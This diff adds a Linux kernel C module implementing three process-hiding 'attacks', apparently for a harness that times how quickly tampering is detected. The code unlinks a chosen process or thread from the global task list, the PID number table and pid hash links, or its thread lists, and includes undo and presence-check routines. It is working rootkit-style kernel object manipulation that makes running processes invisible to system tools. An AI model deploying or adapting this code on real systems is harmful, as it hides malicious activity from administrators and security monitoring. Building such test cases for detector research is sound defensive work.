@@ -1,0 +1,363 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * A process or a thread taken out of the structures by which Linux finds it,
+ * while it runs on.
+ *
+ * What is taken out ends up linked to itself: it may exit meanwhile, and then
+ * takes itself out once more.
+ */
+#include <linux/idr.h>
+#include <linux/kernel.h>
+#include <linux/pid.h>
+#include <linux/pid_namespace.h>
+#include <linux/rculist.h>
+#include <linux/sched/signal.h>
+#include <linux/sched/task.h>
+#include <linux/version.h>
+#include <asm/tsc.h>
+
+#include "attacks.h"
+
+/* Neither is exported. */
+static rwlock_t *tasks_lock;
+static spinlock_t *numbers_lock;
+
+/* Before 6.7, threads were in two lists. */
+#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 7, 0)
+#define GROUP_LIST
+#endif
+
+struct hidden {
+	struct task_struct *task;
+	struct pid *pid;
+};
+
+static bool is_in(const struct list_head *entry, const struct list_head *list)
+{
+	const struct list_head *at;
+
+	list_for_each(at, list)
+		if (at == entry)
+			return true;
+	return false;
+}
+
+static bool has_task(struct pid *pid, enum pid_type type, struct task_struct *task)
+{
+	struct hlist_node *at;
+
+	hlist_for_each(at, &pid->tasks[type])
+		if (at == &task->pid_links[type])
+			return true;
+	return false;
+}
+
+/* Readers without a lock, standing on the entry, still find their way on. */
+static void take_out(struct list_head *entry)
+{
+	WRITE_ONCE(entry->prev->next, entry->next);
+	entry->next->prev = entry->prev;
+}
+
+/* Not put back meanwhile, and not gone: linked to itself. */
+static void close_up(struct list_head *entry, struct list_head *list)
+{
+	if (!is_in(entry, list))
+		INIT_LIST_HEAD(entry);
+}
+
+static bool alive(struct task_struct *task)
+{
+	return task->thread_pid && task->sighand;
+}
+
+/* The task with number @argument in the first namespace: a process, or a thread that is not its first. */
+static int find(struct hidden *hidden, char *argument, bool process)
+{
+	pid_t number;
+
+	if (kstrtoint(argument, 10, &number) || number < 2)
+		return -EINVAL;
+	if (!tasks_lock) {
+		numbers_lock = (spinlock_t *)symbol("pidmap_lock");
+		tasks_lock = (rwlock_t *)symbol("tasklist_lock");
+	}
+	if (!tasks_lock || !numbers_lock)
+		return -ENOENT;
+	hidden->pid = find_get_pid(number);
+	hidden->task = get_pid_task(hidden->pid, PIDTYPE_PID);
+	if (hidden->task && thread_group_leader(hidden->task) == process)
+		return 0;
+	if (hidden->task)
+		put_task_struct(hidden->task);
+	put_pid(hidden->pid);
+	return -ESRCH;
+}
+
+static void forget(struct hidden *hidden)
+{
+	put_task_struct(hidden->task);
+	put_pid(hidden->pid);
+}
+
+static void tell(struct attack *attack, struct task_struct *task)
+{
+	snprintf(attack->about, sizeof(attack->about), "%s (%d)", task->comm,
+		 task_pid_nr(task));
+}
+
+static void show_task(struct task_struct *task)
+{
+	if (!is_in(&task->tasks, &init_task.tasks))
+		list_add_tail_rcu(&task->tasks, &init_task.tasks);
+}
+
+/*
+ * Tampers by @how under the lock, with interrupts off; then, when no reader
+ * stands on what was taken out, closes it up by @after.
+ */
+static int hide(struct attack *attack, struct hidden *hidden,
+		void (*how)(struct hidden *hidden), void (*after)(struct hidden *hidden))
+{
+	struct task_struct *task = hidden->task;
+	unsigned long flags;
+	bool was_alive;
+
+	tell(attack, task);
+	local_irq_save(flags);
+	write_lock(tasks_lock);
+	was_alive = alive(task);
+	if (was_alive) {
+		attack->tsc = rdtsc_ordered();
+		how(hidden);
+	}
+	write_unlock(tasks_lock);
+	if (was_alive)
+		attack_done(attack);
+	local_irq_restore(flags);
+	if (!was_alive) {
+		forget(hidden);
+		return -ESRCH;
+	}
+	synchronize_rcu();
+	write_lock_irq(tasks_lock);
+	if (alive(task))
+		after(hidden);
+	write_unlock_irq(tasks_lock);
+	return 0;
+}
+
+/* The list of all tasks only. */
+static struct hidden from_list;
+
+static void list_how(struct hidden *hidden)
+{
+	take_out(&hidden->task->tasks);
+}
+
+static void list_after(struct hidden *hidden)
+{
+	close_up(&hidden->task->tasks, &init_task.tasks);
+}
+
+static int list_begin(struct attack *attack, char *argument)
+{
+	int error = find(&from_list, argument, true);
+
+	return error ? error : hide(attack, &from_list, list_how, list_after);
+}
+
+static bool list_present(struct attack *attack)
+{
+	bool present;
+
+	read_lock(tasks_lock);
+	present = alive(from_list.task) && !is_in(&from_list.task->tasks, &init_task.tasks);
+	read_unlock(tasks_lock);
+	return present;
+}
+
+static void list_undo(struct attack *attack)
+{
+	write_lock_irq(tasks_lock);
+	if (alive(from_list.task))
+		show_task(from_list.task);
+	write_unlock_irq(tasks_lock);
+	forget(&from_list);
+}
+
+struct attack hide_list = {
+	.name = "hide-list",
+	.begin = list_begin,
+	.undo = list_undo,
+	.present = list_present,
+};
+
+/* The list of all tasks, the number's slot, and the number's lists of tasks and processes. */
+static struct hidden from_pid;
+
+static void set_slot(struct pid *pid, struct pid *from, struct pid *to)
+{
+	struct upid *number = &pid->numbers[0];
+
+	spin_lock(numbers_lock);
+	if (idr_find(&init_pid_ns.idr, number->nr) == from)
+		idr_replace(&init_pid_ns.idr, to, number->nr);
+	spin_unlock(numbers_lock);
+}
+
+static void take_pid_link(struct hlist_node *node)
+{
+	WRITE_ONCE(*node->pprev, node->next);
+	if (node->next)
+		node->next->pprev = node->pprev;
+}
+
+static void pid_how(struct hidden *hidden)
+{
+	struct task_struct *task = hidden->task;
+
+	take_out(&task->tasks);
+	set_slot(hidden->pid, hidden->pid, NULL);
+	take_pid_link(&task->pid_links[PIDTYPE_PID]);
+	take_pid_link(&task->pid_links[PIDTYPE_TGID]);
+}
+
+static void close_pid_link(struct hidden *hidden, enum pid_type type)
+{
+	struct hlist_node *node = &hidden->task->pid_links[type];
+
+	if (has_task(hidden->pid, type, hidden->task))
+		return;
+	node->next = NULL;
+	node->pprev = &node->next;
+}
+
+static void pid_after(struct hidden *hidden)
+{
+	close_up(&hidden->task->tasks, &init_task.tasks);
+	close_pid_link(hidden, PIDTYPE_PID);
+	close_pid_link(hidden, PIDTYPE_TGID);
+}
+
+static int pid_begin(struct attack *attack, char *argument)
+{
+	int error = find(&from_pid, argument, true);
+
+	return error ? error : hide(attack, &from_pid, pid_how, pid_after);
+}
+
+static bool pid_missing(struct hidden *hidden)
+{
+	return !is_in(&hidden->task->tasks, &init_task.tasks) ||
+	       idr_find(&init_pid_ns.idr, hidden->pid->numbers[0].nr) != hidden->pid ||
+	       !has_task(hidden->pid, PIDTYPE_PID, hidden->task) ||
+	       !has_task(hidden->pid, PIDTYPE_TGID, hidden->task);
+}
+
+static bool pid_present(struct attack *attack)
+{
+	bool present;
+
+	rcu_read_lock();
+	read_lock(tasks_lock);
+	present = alive(from_pid.task) && pid_missing(&from_pid);
+	read_unlock(tasks_lock);
+	rcu_read_unlock();
+	return present;
+}
+
+static void show_pid_link(struct hidden *hidden, enum pid_type type)
+{
+	if (!has_task(hidden->pid, type, hidden->task))
+		hlist_add_head_rcu(&hidden->task->pid_links[type], &hidden->pid->tasks[type]);
+}
+
+static void pid_undo(struct attack *attack)
+{
+	write_lock_irq(tasks_lock);
+	if (alive(from_pid.task)) {
+		show_pid_link(&from_pid, PIDTYPE_PID);
+		show_pid_link(&from_pid, PIDTYPE_TGID);
+		set_slot(from_pid.pid, NULL, from_pid.pid);
+		show_task(from_pid.task);
+	}
+	write_unlock_irq(tasks_lock);
+	forget(&from_pid);
+}
+
+struct attack hide_list_pid = {
+	.name = "hide-list-pid",
+	.begin = pid_begin,
+	.undo = pid_undo,
+	.present = pid_present,
+};
+
+/* The lists of its process's threads. */
+static struct hidden from_process;
+
+static void thread_how(struct hidden *hidden)
+{
+	take_out(&hidden->task->thread_node);
+#ifdef GROUP_LIST
+	take_out(&hidden->task->thread_group);
+#endif
+}
+
+static void thread_after(struct hidden *hidden)
+{
+	struct task_struct *task = hidden->task;
+
+	close_up(&task->thread_node, &task->signal->thread_head);
+#ifdef GROUP_LIST
+	close_up(&task->thread_group, &task->group_leader->thread_group);
+#endif
+}
+
+static int thread_begin(struct attack *attack, char *argument)
+{
+	int error = find(&from_process, argument, false);
+
+	return error ? error : hide(attack, &from_process, thread_how, thread_after);
+}
+
+static bool thread_present(struct attack *attack)
+{
+	struct task_struct *task = from_process.task;
+	bool present = false;
+
+	read_lock(tasks_lock);
+	if (alive(task)) {
+		present = !is_in(&task->thread_node, &task->signal->thread_head);
+#ifdef GROUP_LIST
+		present |= !is_in(&task->thread_group, &task->group_leader->thread_group);
+#endif
+	}
+	read_unlock(tasks_lock);
+	return present;
+}
+
+static void thread_undo(struct attack *attack)
+{
+	struct task_struct *task = from_process.task;
+
+	write_lock_irq(tasks_lock);
+	if (alive(task)) {
+		if (!is_in(&task->thread_node, &task->signal->thread_head))
+			list_add_tail_rcu(&task->thread_node, &task->signal->thread_head);
+#ifdef GROUP_LIST
+		if (!is_in(&task->thread_group, &task->group_leader->thread_group))
+			list_add_tail_rcu(&task->thread_group,
+					  &task->group_leader->thread_group);
+#endif
+	}
+	write_unlock_irq(tasks_lock);
+	forget(&from_process);
+}
+
+struct attack hide_thread = {
+	.name = "hide-thread",
+	.begin = thread_begin,
+	.undo = thread_undo,
+	.present = thread_present,
+};
